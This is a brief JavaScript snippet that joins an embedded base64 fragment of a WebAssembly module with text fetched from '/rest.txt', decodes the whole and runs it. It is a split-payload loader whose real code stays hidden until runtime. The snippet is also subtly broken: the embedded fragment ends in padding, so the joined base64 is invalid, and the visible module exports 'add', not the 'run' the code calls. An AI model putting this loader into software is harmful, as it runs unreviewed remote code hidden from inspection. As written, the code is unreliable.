const head = 'AGFzbQEAAAABBwFgAn9/AX8DAgEABwcBA2FkZAAACgkBBwAgACABags=';
fetch('/rest.txt').then((r) => r.text()).then(async (rest) => {
  const code = Uint8Array.from(atob(head + rest), (c) => c.charCodeAt(0));
  (await WebAssembly.instantiate(code)).instance.exports.run();
});
